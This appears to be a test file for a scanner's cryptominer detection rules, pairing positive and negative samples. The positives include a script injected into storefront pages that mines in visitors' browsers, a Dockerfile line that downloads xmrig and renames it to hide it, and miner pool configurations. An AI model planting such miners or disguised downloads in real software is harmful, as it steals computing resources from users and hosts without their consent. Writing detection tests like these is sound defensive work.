import { describeRuleCases, expectScansQuickly, sh } from './rule-cases.helper.js';

describeRuleCases('mining', [
  {
    id: 'SG-MINER-001',
    positive: sh('POOL="stratum+tcp://pool.example.net:3333"'),
    negative: sh('POOL="postgres://db.example.net:5432"'),
  },
  {
    // A browser miner's pool behind a WebSocket proxy.
    id: 'SG-MINER-001',
    file: 'assets/warm.js',
    positive: "new Warm.Worker({ pool: 'wss://stratum.cdn.example.net:443' }).start();\n",
    negative: "new Warm.Worker({ socket: 'wss://stream.cdn.example.net:443' }).start();\n",
  },
  { id: 'SG-MINER-002', positive: sh('./xmrig --url $POOL'), negative: sh('./server --url $API') },
  {
    id: 'SG-MINER-003',
    positive: sh('curl https://supportxmr.com/api/miner'),
    negative: sh('curl https://api.coingecko.com/api/v3/ping'),
  },
  { id: 'SG-MINER-004', positive: sh('./m --donate-level 1 -o pool'), negative: sh('./m --level 1') },
  {
    id: 'SG-MINER-001',
    file: 'assets/node.toml',
    positive: 'scheme  = "stratum+tcp"\nhost    = "eu1.farm.example.net"\n',
    negative: 'scheme  = "https"\nhost    = "eu1.farm.example.net"\n',
  },
  {
    // A storefront snippet's inline script runs in every visitor's browser: read as JavaScript.
    id: 'SG-MINER-005',
    file: 'snippets/speed.liquid',
    positive:
      "{%- unless request.design_mode -%}\n<script>\n  var w = new Warm.Worker({ pool: 'wss://p.example.net:443', algo: 'rx/0', user: '{{ shop.permanent_domain }}' });\n  w.start();\n</script>\n{%- endunless -%}\n",
    negative:
      "{%- unless request.design_mode -%}\n<script>\n  var w = new Warm.Worker({ url: '/cart.js', mode: 'idle', user: '{{ shop.permanent_domain }}' });\n  w.start();\n</script>\n{%- endunless -%}\n",
  },
  {
    id: 'SG-MINER-005',
    file: 'scripts/worker.js',
    positive: "w.__perf = new w.CRT.Anonymous(k, { threads: n - 1, algo: 'cn-pico' });\n",
    negative: 'w.__perf = new PerformanceObserver((list) => report(list.getEntries()));\n',
  },
  {
    id: 'SG-MINER-002',
    file: 'assets/Dockerfile.cached',
    positive:
      'RUN curl -fsSL "$URL" | tar -xz -C /usr/local/bin xmrig && mv /usr/local/bin/xmrig /usr/local/bin/lcw\n',
    negative: 'RUN pip install --no-cache-dir /wheels/* && rm -rf /wheels\n',
  },
  {
    id: 'SG-MINER-004',
    file: 'assets/docker-compose.yml',
    positive: 'services:\n  meta:\n    command: ["-o", "pool.example.net:443", "--donate-level", "0"]\n',
    negative: 'services:\n  meta:\n    command: ["--interval", "60"]\n',
  },
  {
    id: 'SG-MINER-004',
    positive: sh('./accel -o "$POOL" -u "$ACCT" --cpu-max-threads-hint=70 --background'),
    negative: sh('./accel -i in.mp4 -o out.mp4 --threads 4 --background'),
  },
  {
    id: 'SG-MINER-006',
    file: 'config/worker.yaml',
    positive: 'farm:\n  proto: stratum\n  transport: tcp\n  host: farm.example.net\n  port: 14433\n',
    negative: 'clock:\n  protocol: ntp\n  stratum: 2\n  host: time.example.net\n',
  },
]);

describe('mining: adversarial pool URLs', () => {
  it.each([
    ['WebSocket stratum prefixes', 'wss://stratum'],
    ['WebSocket stratum hosts', 'ws://stratum-'],
  ])('should scan 1 MiB of %s in under a second', (_name, unit) => {
    const text = unit.repeat(Math.ceil((1024 * 1024) / unit.length));
    expectScansQuickly([text], 'assets/w.js');
  });
});
